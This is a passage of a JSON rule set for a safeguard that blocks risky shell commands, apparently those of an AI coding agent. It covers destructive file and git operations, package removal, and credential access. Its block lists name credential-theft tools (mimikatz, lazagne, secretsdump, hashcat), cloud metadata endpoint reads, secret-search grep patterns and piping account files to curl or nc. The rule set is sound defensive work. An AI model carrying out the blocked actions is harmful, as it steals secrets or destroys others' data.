on":"This moves away what others rely on, or throws it away. Copy it, or name what is meant.","trust":4,"match":[{"moves":["root","home","system","workspace"]},\
{"program":["mv"],"args":{"any":["/dev/*null","*dev/null"]}}]},{"code":"destructive_operation_blocked","id":"write-system-file","category":"files","severity":"s\
evere","explanation":"This writes a file of the operating system. Keep to the workspace; use the package manager for tools.","trust":4,"match":[{"writes":["root\
","kernel"]},{"writes":["system","accounts"]},{"program":["curl","wget"],"writes":["local-system"]},{"program":["tar","unzip","bsdtar"],"args":{"any":["x*"]},"w\
rites":["root","system"]}]},{"code":"destructive_operation_blocked","id":"change-rights-of-machine","category":"files","severity":"catastrophic","explanation":"\
This changes owner or rights of the system or of a home. The machine may not start again.","match":[{"changes":["root"],"recursive":true},{"program":["chmod"],"\
changes":["root"],"args":{"none":["755","0755","555","0555","+x","a+x","+rx","a+rx"]}},{"changes":["system-tree","accounts"],"recursive":true},{"program":["chmo\
d","chgrp","chattr","setfacl","chcon"],"changes":["home"],"recursive":true},{"program":["chown"],"changes":["home"],"recursive":true,"args":{"none":["\\ufffc*"]}\
}]},{"code":"destructive_operation_blocked","id":"change-rights-of-system-file","category":"files","severity":"severe","explanation":"This changes owner or righ\
ts of a file of the system. Keep to the workspace.","trust":4,"match":[{"changes":["system","accounts","device","kernel","socket","schedule"]},{"program":["setf\
acl"],"flags":{"any":["-b","--remove-all"]},"recursive":true,"changes":["local-system","outside","personal"]},{"program":["chown","chgrp","setfacl"],"changes":[\
"root"]}]},{"code":"destructive_operation_blocked","id":"open-rights-widely","category":"files","severity":"severe","explanation":"This opens a whole tree to ev\
erybody, or closes it to its owner. Change the one file that needs it.","trust":3,"match":[{"program":["chmod"],"recursive":true,"args":{"any":["777","0777","66\
6","0666","000","0","0000","a+rwx","ugo+rwx","a=rwx","o+w","a+w","o+rwx","a-rwx","*-rwx"]},"changes":["workspace","source","personal","outside","home","local-sy\
stem","unknown","vcs","data"]},{"program":["chmod"],"args":{"any":["777","0777","666","0666","644","0644","755","0755","000","0","*o+*","*a+r*","*g+r*","+r","*a\
=r*"]},"changes":["credentials","authorized-keys"]},{"program":["chmod"],"args":{"any":["777","0777","666","0666","000","0","0000","a+rwx","ugo+rwx","o+w","a+w"\
,"o+rwx","*-rwx"]},"changes":["home"]},{"program":["chown","chgrp"],"recursive":true,"changes":["personal"]}]},{"code":"destructive_operation_blocked","id":"rem\
ove-system-package","category":"files","severity":"severe","explanation":"This removes a package that the machine or others on it need. Leave installed packages\
 alone.","trust":4,"match":[{"program":["apt","apt-get","aptitude","yum","dnf","microdnf","zypper","apk"],"subcommand":["remove","purge","erase","autopurge","de\
l"],"args":{"any":["libc6","libc6:*","glibc","musl","linux-image*","linux-headers*","linux","kernel","kernel-*","systemd","base","base-*","python3","python3.*",\
"python3-minimal","bash","coreutils","dpkg","rpm","apt","util-linux","busybox","openssl","libssl3","init","sudo","openssh-server"]}},{"program":["pacman"],"flag\
s":{"any":["-R"]},"args":{"any":["libc6","libc6:*","glibc","musl","linux-image*","linux-headers*","linux","kernel","kernel-*","systemd","base","base-*","python3\
","python3.*","python3-minimal","bash","coreutils","dpkg","rpm","apt","util-linux","busybox","openssl","libssl3","init","sudo","openssh-server"]}},{"program":["\
dpkg","rpm"],"flags":{"any":["--purge","--remove","-r","-P","-e","--erase"]},"args":{"any":["libc6","libc6:*","glibc","musl","linux-image*","linux-headers*","li\
nux","kernel","kernel-*","systemd","base","base-*","python3","python3.*","python3-minimal","bash","coreutils","dpkg","rpm","apt","util-linux","busybox","openssl\
","libssl3","init","sudo","openssh-server"]}},{"program":["dpkg"],"flags":{"any":["--force-all"]}},{"program":["rpm"],"flags":{"all":["-e","--nodeps"]}},{"progr\
am":["brew"],"subcommand":["uninstall","remove","rm"],"args":{"any":["*\\ufffc*"]},"line":{"any":["brew list*","brew leaves*"]}},{"program":["apt","apt-get","apt\
itude","yum","dnf","microdnf","zypper","apk"],"subcommand":["remove","purge","erase","autopurge","del"],"level":"strict"},{"program":["pacman"],"flags":{"any":[\
"-R"]},"level":"strict"},{"program":["dpkg"],"flags":{"any":["--purge","--remove","-r","-P"]},"level":"strict"}]},{"code":"destructive_operation_blocked","id":"\
sync-with-deletion","category":"files","severity":"severe","explanation":"This deletes at the goal what the source does not have. Leave --delete out, or name a \
folder that is yours.","trust":4,"match":[{"program":["robocopy"],"args":{"any":["/MIR","/mir","/PURGE","/purge"]}},{"program":["rsync","robocopy"],"flags":{"an\
y":["--delete","--delete-after","--delete-before","--delete-during","--delete-delay","--delete-excluded","--del","--remove-source-files"]},"writes":["local-syst\
em","personal","outside","workspace","vcs","unknown-folder"]},{"program":["sync-away"]},{"program":["rsync"],"flags":{"any":["--delete","--delete-after","--dele\
te-before","--delete-during","--delete-delay","--delete-excluded","--del"]},"args":{"any":["*empty*","*blank*","/tmp/*"]},"writes":["source"],"level":"strict"}]\
},{"code":"destructive_operation_blocked","id":"git-force-push","category":"git","severity":"severe","explanation":"A forced push overwrites what others have pu\
shed. Push a new branch, or a commit that reverts.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["push"],"flags":{"any":["-f","--for\
ce","--force-with-lease","--force-if-includes"]}},{"program":["git"],"subcommand":["push","send-pack"],"args":{"any":["+*"]}},{"program":["git"],"subcommand":["\
send-pack"],"flags":{"any":["--force","-f"]}},{"program":["git"],"subcommand":["push"],"flags":{"any":["--mirror"]}},{"program":["git"],"subcommand":["config re\
mote.*.mirror true","config remote.*.mirror 1","config remote.*.push +*","config set remote.*.mirror true","config set remote.*.push +*","config remote.*.push :\
*"]},{"program":["git"],"subcommand":["remote add"],"flags":{"any":["--mirror"]},"line":{"any":["git push*"]}},{"program":["git"],"subcommand":["push"],"environ\
ment":{"GIT_CONFIG_VALUE_*":["+*"]}},{"program":["git"],"subcommand":["push"],"environment":{"GIT_CONFIG_KEY_*":["remote.*.mirror","remote.*.push"]}}]},{"code":\
"destructive_operation_blocked","id":"git-delete-remote-ref","category":"git","severity":"severe","explanation":"This deletes branches or tags of the remote, wh\
ich others may need. Leave it to the person who owns them.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["push"],"flags":{"any":["-d\
","--delete","--prune"]}},{"program":["svn"],"subcommand":["delete","del","rm","remove"],"args":{"any":["*://*"]}},{"program":["jj"],"subcommand":["git push"],"\
flags":{"any":["--deleted"]}},{"program":["git"],"subcommand":["push","send-pack"],"args":{"any":[":*"],"none":[":"]}}]},{"code":"destructive_operation_blocked"\
,"id":"git-reset-hard","category":"git","severity":"severe","explanation":"git reset --hard and --merge throw uncommitted changes away. Use git stash, or git re\
store for one file.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["reset"],"flags":{"any":["--hard","--merge"]}}]},{"code":"destruct\
ive_operation_blocked","id":"git-clean","category":"git","severity":"severe","explanation":"git clean deletes files that git has never seen. Look with git clean\
 -n, then delete by name.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["clean"],"flags":{"any":["-f","--force"]},"args":{"at_most":\
0}},{"program":["git"],"subcommand":["clean"],"flags":{"any":["-f","--force"]},"changes":["workspace","source","inner","personal","outside","home","root","syste\
m","local-system","temp-root","unknown","unknown-folder","vcs"]},{"program":["git"],"subcommand":["clean"],"environment":{"GIT_CONFIG_VALUE_*":["false"]}}]},{"c\
ode":"destructive_operation_blocked","id":"git-delete-branch","category":"git","severity":"severe","explanation":"This deletes a branch even if its commits are \
nowhere else. git branch -d deletes merged ones.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["branch"],"flags":{"any":["-D"]}},{"p\
rogram":["git"],"subcommand":["branch"],"flags":{"all":["-d","-f"]}},{"program":["git"],"subcommand":["branch"],"flags":{"all":["--delete","--force"]}},{"progra\
m":["git"],"subcommand":["branch"],"flags":{"all":["-d","--force"]}},{"program":["git"],"subcommand":["branch"],"flags":{"all":["--delete","-f"]}}]},{"code":"de\
structive_operation_blocked","id":"git-discard-changes","category":"git","severity":"severe","explanation":"This throws uncommitted changes of many files away. \
Use git stash, or name the files that are meant.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["checkout"],"flags":{"any":["-f","--f\
orce"]}},{"program":["git"],"subcommand":["switch"],"flags":{"any":["-f","--force","--discard-changes"]}},{"program":["git-discard"],"names":["workspace","sourc\
e","personal","home","root"]},{"program":["git"],"subcommand":["checkout-index"],"flags":{"all":["-f","-a"]}},{"program":["git"],"subcommand":["checkout-index"]\
,"flags":{"all":["-f","--all"]}},{"program":["git"],"subcommand":["checkout-index"],"flags":{"all":["--force","-a"]}},{"program":["git"],"subcommand":["checkout\
-index"],"flags":{"all":["--force","--all"]}},{"program":["git"],"subcommand":["read-tree"],"flags":{"any":["--reset"],"all":["-u"]}},{"program":["git"],"subcom\
mand":["submodule deinit"],"flags":{"any":["-f","--force","--all"]}},{"program":["git"],"subcommand":["submodule update"],"flags":{"any":["-f","--force"]}},{"pr\
ogram":["git"],"subcommand":["apply"],"flags":{"any":["-R","--reverse"]},"from":{"program":["git"]},"line":{"any":["git diff","git diff HEAD","git diff -*"]}}]}\
,{"code":"destructive_operation_blocked","id":"git-discard-file","category":"git","severity":"severe","explanation":"This throws the uncommitted changes of a fi\
le away. Use git stash push FILE, or ask the person.","trust":3,"level":"strict","spares":["own-act"],"match":[{"program":["git-discard-file"],"names":["workspa\
ce","source","inner","personal","outside","home","unknown"]},{"program":["git"],"subcommand":["rm"],"flags":{"any":["-f","--force"],"none":["--cached"]}},{"prog\
ram":["git"],"subcommand":["update-index"],"flags":{"any":["--force-remove"]}},{"program":["svn","hg"],"subcommand":["revert"]}]},{"code":"destructive_operation\
_blocked","id":"git-abort","category":"git","severity":"severe","explanation":"This throws away how conflicts were resolved, and what was not committed before. \
Ask the person.","trust":3,"level":"strict","spares":["own-act"],"match":[{"program":["git"],"subcommand":["merge","rebase","cherry-pick","revert","am"],"flags"\
:{"any":["--abort"]}}]},{"code":"destructive_operation_blocked","id":"git-delete-tag","category":"git","severity":"severe","explanation":"A deleted or moved tag\
 is gone, with its message and signature. Ask the person.","trust":3,"level":"strict","spares":["own-act"],"match":[{"program":["git"],"subcommand":["tag"],"fla\
gs":{"any":["-d","--delete","-f","--force"]}}]},{"code":"destructive_operation_blocked","id":"git-drop-stash","category":"git","severity":"severe","explanation"\
:"A dropped stash is gone. Leave it; it costs nothing.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["stash drop","stash clear"]}]},\
{"code":"destructive_operation_blocked","id":"git-rewrite-history","category":"git","severity":"severe","explanation":"This rewrites the history of the whole re\
pository. Make a commit that changes what has to change.","trust":4,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["filter-branch","filter-repo"\
,"replace"],"flags":{"none":["-l","--list","--analyze"]}},{"program":["git-filter-repo","git-filter-branch","bfg"],"flags":{"none":["--help","--analyze"]}},{"pr\
ogram":["java"],"options":{"-jar":["*bfg*.jar"]}},{"program":["git"],"subcommand":["rebase"],"flags":{"any":["--root"]}},{"program":["git"],"subcommand":["fast-\
import"],"flags":{"any":["--force"]}},{"program":["hg"],"subcommand":["strip","histedit","convert"]}]},{"code":"destructive_operation_blocked","id":"git-expire-\
objects","category":"git","severity":"severe","explanation":"This deletes what could still bring commits back. git gc without options keeps it for two weeks.","\
trust":4,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["reflog delete"]},{"program":["git"],"subcommand":["reflog expire"],"level":"strict"},{"\
program":["git"],"subcommand":["reflog expire"],"options":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["gi\
t"],"subcommand":["reflog expire"],"options":{"--expire-unreachable":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["git\
"],"subcommand":["gc"],"options":{"--prune":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["git"],"subcommand":["prune"]\
,"flags":{"none":["--expire"]}},{"program":["git"],"subcommand":["prune"],"options":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\\
ufffc*"]}},{"program":["jj"],"subcommand":["util gc"],"options":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}}]},{"code"\
:"destructive_operation_blocked","id":"git-delete-ref","category":"git","severity":"severe","explanation":"This deletes a reference by hand, below what git chec\
ks. Use git branch -d or git tag -d.","trust":4,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["update-ref","symbolic-ref"],"flags":{"any":["-d"\
,"--delete","--stdin"]}}]},{"code":"destructive_operation_blocked","id":"git-remove-worktree","category":"git","severity":"severe","explanation":"This removes a\
 worktree with its uncommitted changes. Without --force git refuses while there are any.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand\
":["worktree remove"],"flags":{"any":["-f","--force"]}}]},{"code":"destructive_operation_blocked","id":"git-remove-tracked","category":"git","severity":"severe"\
,"explanation":"This deletes tracked files in whole folders, changed ones too. Name the files, without -f.","trust":3,"spares":["own-act"],"match":[{"program":[\
"git"],"subcommand":["rm"],"flags":{"none":["--cached"]},"moves":["workspace","root","home"]},{"program":["git"],"subcommand":["rm"],"flags":{"any":["-f","--for\
ce"],"none":["--cached"]},"recursive":true,"moves":["source"]}]},{"code":"destructive_operation_blocked","id":"other-vcs-discard","category":"git","severity":"s\
evere","explanation":"This throws uncommitted changes of the whole working copy away. Name the file that is meant.","trust":3,"match":[{"program":["hg"],"subcom\
mand":["update","up","checkout"],"flags":{"any":["-C","--clean"]}},{"program":["hg"],"subcommand":["purge","clean"]},{"program":["hg"],"subcommand":["revert"],"\
flags":{"any":["--all","-a"]}},{"program":["svn"],"subcommand":["revert"],"recursive":true},{"program":["svn"],"subcommand":["cleanup"],"flags":{"any":["--remov\
e-unversioned"]}},{"program":["jj"],"subcommand":["abandon","op abandon"]},{"program":["jj"],"subcommand":["restore"],"args":{"any":["."]}},{"program":["jj"],"s\
ubcommand":["restore"],"args":{"at_most":0}},{"program":["git"],"subcommand":["annex drop"],"flags":{"any":["--force"]}},{"program":["p4"],"subcommand":["oblite\
rate","clean"]},{"program":["p4"],"subcommand":["revert"],"args":{"any":["*...","*...#*"]}},{"program":["bzr","brz"],"subcommand":["revert"],"args":{"at_most":0\
}},{"program":["bzr","brz"],"subcommand":["clean-tree"],"flags":{"any":["--force"]}},{"program":["fossil"],"subcommand":["revert"],"args":{"at_most":0}},{"progr\
am":["fossil"],"subcommand":["clean"],"flags":{"any":["--force","-f","--extra","-x","--emptydirs"]}},{"program":["darcs"],"subcommand":["revert","obliterate"],"\
flags":{"any":["-a","--all"]}}]},{"code":"destructive_operation_blocked","id":"hosting-delete","category":"git","severity":"severe","explanation":"This deletes \
or exposes something on the hosting service for everybody. Ask the person who owns it.","trust":4,"match":[{"program":["gh","glab","hub","tea"],"subcommand":["r\
epo delete","release delete","release delete-asset","secret delete","secret remove","secret set","variable delete","workflow disable","repo rename","repo archiv\
e","ssh-key add","gpg-key add","repo deploy-key add"]},{"program":["gh","glab"],"subcommand":["api"],"options":{"-X":["DELETE","delete"]}},{"program":["gh","gla\
b"],"subcommand":["api"],"options":{"--method":["DELETE","delete"]}},{"program":["gh","glab"],"subcommand":["api"],"options":{"-X":["PATCH","patch","PUT","put"]\
},"args":{"any":["*/git/refs/*","*/collaborators/*","*/memberships/*","*/protection*","*/hooks*"]}},{"program":["gh","glab"],"subcommand":["api"],"options":{"--\
method":["PATCH","patch","PUT","put"]},"args":{"any":["*/git/refs/*","*/collaborators/*","*/memberships/*","*/protection*","*/hooks*"]}},{"program":["gh"],"subc\
ommand":["api graphql"],"options":{"-f":["query=*mutation*delete*","query=*mutation*updateRef*"]}},{"program":["java"],"options":{"-jar":["*jenkins-cli.jar"]},"\
args":{"any":["delete-*","disable-*","quiet-down","safe-*","restart","shutdown"],"none":["get-*","list-*","build"]}},{"program":["curl","wget","http","xh"],"arg\
s":{"any":["*/doDelete","*/doDelete?*","*/doWipeOutWorkspace*"]}},{"program":["gh"],"subcommand":["repo edit"],"options":{"--visibility":["public"]}},{"program"\
:["gh"],"subcommand":["pr merge"],"flags":{"any":["--admin"]}}]},{"code":"credential_file_protected","id":"credential-file","category":"credentials","severity":\
"severe","explanation":"This file holds secrets. Ask a person for what you need of it; names without values stand in the template beside it.","match":[{"reads":\
["credentials"]},{"writes":["credentials"]},{"writes":["from-template"],"level":"strict"},{"reads":["handed-over"],"level":"strict"},{"reads":["handed-over"],"l\
ine":{"any":["echo *\\ufffc*","printf *\\ufffc*","env","env | *","printenv*","set","export","export -p","declare -*","typeset -*","set -x*","set -*x","set -*x *",\
"curl *","wget *","nc *","ncat *","http *"]}},{"deletes":["credentials"]},{"moves":["credentials"]}]},{"code":"credential_file_protected","id":"credential-named\
-file","category":"credentials","severity":"severe","explanation":"Files with \\"credentials\\" in their name are not edited by tools. Ask a person to make this c\
hange.","match":[{"program":["edit-tool"],"writes":["credentials-by-name"]}]},{"code":"credential_file_protected","id":"read-accounts","category":"credentials",\
"severity":"risky","explanation":"This reads the accounts of the machine. id and whoami tell about yourself.","match":[{"reads":["account-secrets"]},{"reads":["\
accounts"],"to":"remote"},{"reads":["accounts"],"line":{"any":["curl *","wget *","nc *","ncat *","scp *","ssh *","mail *","http *"]}},{"program":["curl","http",\
"https","wget","xh","xhs","nc","ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat","pastebin\
it","scp","rsync","gh"],"reads":["accounts"]},{"program":["getent"],"args":{"any":["shadow","gshadow"]}}]},{"code":"credential_file_protected","id":"secret-stor\
e","category":"credentials","severity":"severe","explanation":"This prints a secret out of its store. Programs that need it can be given it without you seeing i\
t.","match":[{"program":["docker","podman","nerdctl"],"subcommand":["inspect"],"line":{"any":["*inspect*.Config.Env*"]}},{"program":["docker","podman","nerdctl"\
],"subcommand":["exec"],"args":{"any":["env","printenv"],"at_most":2}},{"program":["aws"],"subcommand":["secretsmanager get-secret-value","secretsmanager batch-\
get-secret-value","configure get","configure export-credentials","sso get-role-credentials","sts get-session-token","sts assume-role","ecr get-login-password","\
iam create-access-key"]},{"program":["aws"],"subcommand":["apigateway get-api-key*"],"flags":{"any":["--include-value","--include-values"]}},{"program":["aws"],\
"subcommand":["ssm get-parameter*"],"flags":{"any":["--with-decryption"]}},{"program":["gcloud"],"subcommand":["secrets versions access","auth print-*","auth ap\
plication-default print-*","iam service-accounts keys create"]},{"program":["az"],"subcommand":["keyvault secret show","keyvault secret download","account get-a\
ccess-token","* keys list","* * keys list","ad sp create*"]},{"program":["vault","bao"],"subcommand":["kv get","read","token lookup","token create","operator *"\
]},{"program":["kubectl","oc"],"subcommand":["get secret*","get *,secret*","describe secret*"],"options":{"-o":["y*","Y*","j*","J*","g*","t*","*.data*","*-file*\
","*.\\\\**","*@*","*[*","*..*","*\\ufffc*"]}},{"program":["kubectl","oc"],"subcommand":["get secret*","get *,secret*","describe secret*"],"options":{"--output":["\
y*","Y*","j*","J*","g*","t*","*.data*","*-file*","*.\\\\**","*@*","*[*","*..*","*\\ufffc*"]}},{"program":["kubectl","oc"],"subcommand":["get secret*","get *,secret\
*","describe secret*"],"flags":{"any":["--template"]}},{"program":["kubectl","oc"],"subcommand":["config view"],"flags":{"any":["--raw"]}},{"program":["kubectl"\
,"oc"],"subcommand":["create token"]},{"program":["ssh-keygen"],"flags":{"any":["-p","-e"]}},{"program":["gh"],"subcommand":["auth token"]},{"program":["gh"],"s\
ubcommand":["auth status"],"flags":{"any":["-t","--show-token"]}},{"program":["op"],"subcommand":["read","item get","document get"]},{"program":["pass","gopass"\
],"subcommand":["show","grep"]},{"program":["bw"],"subcommand":["get","export","list"]},{"program":["lpass","rbw","dcli","bws"],"subcommand":["show","export","g\
et","read","note","password","secret get","secret list"]},{"program":["keepassxc-cli"],"subcommand":["show","export","clip"]},{"program":["chamber","berglas","a\
keyless","infisical","conjur"],"subcommand":["read","export","access","get-secret-value","secrets","secrets get","variable get"]},{"program":["ps"],"args":{"any\
":["auxe*","axe*","eww*","auxwwe*","axewww*"]}},{"program":["grep","egrep","fgrep","rg"],"from":{"program":["env","printenv","set","export","declare","history"]\
},"args":{"any":["*pass*","*secret*","*token*","*credential*","*PASS*","*SECRET*","*TOKEN*","*CREDENTIAL*","*api_key*","*API_KEY*","*apikey*","*access_key*"]}},\
{"program":["Get-StoredCredential","Get-Secret"]},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*/scriptText","*/script"]},"line":{"any":\
["*script=*.plainText*","*script=*.getPlainText()*","*script=*Secret.decrypt(*","*script=*.getSecret()*"]}},{"program":["wp","wp-cli","wp-cli.phar"],"subcommand\
":["config get"],"args":{"any":["*PASSWORD*","*_KEY","*_SALT"]}},{"program":["rails","bin/rails"],"subcommand":["credentials:show","credentials:edit","encrypted\
:show","encrypted:edit"]},{"program":["reg"],"subcommand":["save"],"args":{"any":["*SAM","*SECURITY","*SYSTEM","*sam","*security"]}},{"program":["aws"],"subcomm\
and":["lambda get-function-configuration","lambda get-function"],"options":{"--query":["*Environment*"]}},{"program":["terraform","tofu"],"subcommand":["state p\
ull"],"line":{"any":["jq *password*","jq *secret*","grep *pass*","grep *secret*"]}},{"program":["systemd-creds"],"subcommand":["decrypt","cat"]},{"program":["se\
crethub"],"subcommand":["read","inject"]},{"program":["kwallet-query"],"flags":{"any":["-r","--read-password"]}},{"program":["klist"],"flags":{"any":["-K"]}},{"\
program":["nmcli"],"flags":{"any":["-s","--show-secrets"]}},{"program":["keytool"],"flags":{"any":["-importkeystore"]}},{"program":["fly","flyctl"],"subcommand"\
:["auth token","tokens create"]},{"program":["glab"],"subcommand":["auth status"],"flags":{"any":["-t","--show-token"]}},{"program":["netlify","ntl"],"subcomman\
d":["env:list","env:get"]},{"program":["railway"],"subcommand":["variables","variable list"]},{"program":["heroku"],"subcommand":["pg:credentials:url","redis:cr\
edentials"]},{"program":["pulumi"],"subcommand":["config","stack"],"flags":{"any":["--show-secrets","--show"]}},{"program":["convex"],"subcommand":["env list","\
env get"]},{"program":["yadm","git-crypt","transcrypt"],"subcommand":["decrypt"]},{"program":["terraform","tofu","terragrunt"],"subcommand":["output"],"args":{"\
any":["*password*","*secret*","*token*","*_key","*credential*"]}},{"program":["age","rage"],"flags":{"any":["-d","--decrypt"]}},{"program":["gpg","gpg2"],"flags\
":{"any":["-d","--decrypt"]},"args":{"any":["*secret*","*pass*","*.env*","*cred*","*key*","*token*"]}},{"program":["rclone"],"subcommand":["config show","config\
 dump","config file"]},{"program":["security"],"subcommand":["find-*-password","dump-keychain","export"]},{"program":["secret-tool"],"subcommand":["lookup","sea\
rch"]},{"program":["gpg","gpg2"],"flags":{"any":["--export-secret-keys","--export-secret-subkeys"],"none":["--export"]}},{"program":["git"],"subcommand":["crede\
ntial fill","credential-store get","credential-cache get"]},{"program":["git-credential-*","docker-credential-*"],"subcommand":["get","list","fill"]},{"program"\
:["npm"],"subcommand":["token create","token list","config get *authToken*","config get //*"]},{"program":["heroku"],"subcommand":["auth:token","config","config\
:get"]},{"program":["doppler"],"subcommand":["secrets","secrets get","secrets download"]},{"program":["vercel"],"subcommand":["env pull"]},{"program":["sops","a\
nsible-vault"],"subcommand":["decrypt","view","edit"]},{"program":["sops"],"flags":{"any":["-d","--decrypt"]}},{"program":["printenv"],"args":{"any":["*TOKEN*",\
"*SECRET*","*PASSWORD*","*PASSWD*","*_KEY","*CREDENTIAL*","DATABASE_URL"]}},{"program":["curl","wget","http"],"args":{"any":["*169.254.169.254*","*metadata.goog\
le.internal*","*169.254.170.2*","*fd00:ec2::254*"]}},{"program":["curl","http"],"line":{"any":["*script=*lookupCredentials*","*script=*Credentials*plainText*","\
*script=*Secret.decrypt*"]}},{"program":["mimikatz","lazagne","hashdump","unshadow","trufflehog-dump"]},{"program":["python"],"args":{"any":["*laZagne*","*lazag\
ne*","*mimipenguin*","*LinEnum*","*secretsdump*"]}},{"program":["john","hashcat","hydra"],"flags":{"none":["--list","--help","-h","--version","-V","-I","--backe\
nd-info","--example-hashes","-U"]}}]},{"code":"credential_file_protected","id":"read-memory","category":"credentials","severity":"severe","explanation":"The mem\
ory of another process holds its secrets. Debug the program that you started, or a core of it.","match":[{"program":["gcore","procdump","minidump","lsassy","pyp\
ykatz"]},{"program":["gdb"],"options":{"-ex":["generate-core*","gcore*","dump *","*dump memory*","x/*s *"]},"flags":{"any":["-p","-pid","--pid"]}},{"program":["\
strace","ltrace"],"flags":{"any":["-p","--attach"]},"line":{"any":["* -e read*","* -e write*","* -e trace=read*","* -e trace=write*","* trace=*read*","* -s *"]}\
},{"program":["jmap"],"args":{"any":["*dump*"]}},{"program":["jmap"],"line":{"any":["jmap *-dump*"]}},{"program":["jcmd"],"args":{"any":["GC.heap_dump"]}}]},{"c\
ode":"credential_file_protected","id":"destroy-secret","category":"credentials","severity":"severe","explanation":"This deletes or replaces a secret, or deletes\
 the store that keeps it; what uses it stops working. The person who owns it does that.","spares":["own-data","own-act"],"match":[{"program":["vault","bao"],"su\
bcommand":["delete","kv delete","kv destroy","kv metadata delete","secrets disable","auth disable","lease revoke","policy delete","transit delete"]},{"program":\
["op"],"subcommand":["* delete","* rm","* remove","user suspend"]},{"program":["doppler"],"subcommand":["* delete","configs tokens revoke"]},{"program":["pass",\
"gopass","lpass"],"subcommand":["rm","remove","delete"]},{"program":["bw"],"subcommand":["delete","purge"]},{"program":["keepassxc-cli"],"subcommand":["rm","rmd\
ir","db-remove"]},{"program":["security"],"subcommand":["delete-*"]},{"program":["secret-tool"],"subcommand":["clear"]},{"program":["keyctl"],"subcommand":["rev\
oke","unlink","clear","purge","invalidate"]},{"program":["cmdkey"],"args":{"any":["/delete*"]}},{"program":["gpg","gpg2"],"flags":{"any":["--delete-secret-keys"\
,"--delete-secret-and-public-key","--delete-secret-key"]}},{"program":["infisical","chamber","credstash","berglas"],"subcommand":["delete","secrets delete","del\
eteall"]},{"program":["aws"],"subcommand":["secretsmanager delete-*","secretsmanager update-secret","ssm delete-parameter*","kms schedule-key-deletion","kms del\
ete-*"]},{"program":["aws"],"subcommand":["configure set aws_*"],"flags":{"none":["--profile"]}},{"program":["gcloud"],"subcommand":["secrets delete","secrets v\
ersions destroy","kms keys versions destroy"]},{"program":["az"],"subcommand":["keyvault delete","keyvault purge","keyvault * delete","keyvault * purge","keyvau\
lt * delete-*"]},{"program":["kubectl","oc"],"subcommand":["delete secret*","delete *,secret*"]},{"program":["docker","podman"],"subcommand":["secret rm","secre\
t remove"]},{"program":["gh","glab"],"subcommand":["secret delete","secret remove","variable delete"]},{"program":["heroku"],"subcommand":["config:unset","confi\
g:remove"]},{"program":["fly","flyctl"],"subcommand":["secrets unset"]},{"program":["vercel","now"],"subcommand":["env rm","env remove"]},{"program":["netlify"]\
,"subcommand":["env:unset"]},{"program":["railway"],"subcommand":["variables delete","variable delete"]},{"program":["wrangler"],"subcommand":["secret delete","\
secret bulk delete"]},{"program":["supabase"],"subcommand":["secrets unset"]},{"program":["firebase"],"subcommand":["functions:secrets:destroy"]},{"program":["c\
url","http","xh"],"args":{"any":["*:8200/v1/*","*/v1/secret/*"]},"options":{"-X":["DELETE"]}},{"program":["curl","http","xh"],"args":{"any":["*:8200/v1/*","*/v1\
/secret/*"]},"options":{"--request":["DELETE"]}}]},{"code":"credential_file_protected","id":"search-for-secrets","category":"credentials","severity":"severe","e\
xplanation":"This searches homes or the whole machine for secrets, or copies them. Keep to the workspace.","match":[{"program":["grep","egrep","fgrep","rg","ag"\
,"ack","zgrep","ugrep"],"args":{"any":["*passw*","*secret*","*token*","*credential*","*api*key*","*private*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *","*P\
ASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"reads":["root","home"]},{"program":["gre\
p","egrep","fgrep","rg","ag","ack","zgrep","ugrep"],"args":{"any":["sk-*","*(sk-*","*|sk-*","*\\"sk-*","*AKIA*","*ghp_*","xox*","*BEGIN*PRIVATE*"]},"reads":["per\
sonal","startup","system"]},{"program":["grep","egrep","fgrep","rg","ugrep"],"options":{"-e":["*passw*","*secret*","*token*","*credential*","*api*key*","*privat\
e*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*"\
,"*\\ufffc*"]},"reads":["root","home"]},{"program":["grep","egrep","fgrep","rg","ugrep"],"options":{"--regexp":["*passw*","*secret*","*token*","*credential*","*a\
pi*key*","*private*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*\
","*xox*","*pwd*","*\\ufffc*"]},"reads":["root","home"]},{"program":["grep","egrep","fgrep","rg","ugrep"],"args":{"any":["*passw*","*secret*","*token*","*credent\
ial*","*api*key*","*private*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token\
*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"recursive":true,"reads":["system"]},{"program":["locate","plocate","mlocate","mdfind"],"names":["credentials"]},{"progr\
am":["git"],"subcommand":["log"],"options":{"-S":["*PRIVATE KEY*","*AKIA*","*ghp_*"]}},{"program":["git"],"subcommand":["log"],"options":{"-G":["*PRIVATE KEY*",\
